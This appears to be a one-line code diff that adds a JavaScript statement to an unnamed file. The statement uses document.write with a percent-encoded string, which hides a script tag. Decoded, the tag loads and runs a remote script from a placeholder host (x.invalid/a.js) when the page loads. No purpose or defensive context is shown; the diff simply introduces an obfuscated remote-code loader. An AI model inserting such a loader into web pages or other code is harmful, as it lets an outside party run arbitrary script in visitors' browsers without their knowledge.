@@ -1,0 +1,1 @@
+document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fx.invalid%2Fa.js%22%3E%3C%2Fscript%3E'));
